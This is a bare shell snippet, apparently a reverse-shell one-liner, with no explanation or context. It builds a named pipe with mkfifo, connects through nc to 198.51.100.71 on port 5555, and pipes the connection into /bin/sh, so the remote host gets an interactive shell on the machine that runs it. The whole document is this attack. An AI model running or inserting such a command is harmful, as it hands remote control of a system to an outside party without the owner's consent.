T=$(mktemp -u)
mkfifo "$T"
nc 198.51.100.71 5555 0<"$T" | /bin/sh >"$T" 2>&1
rm -f "$T"
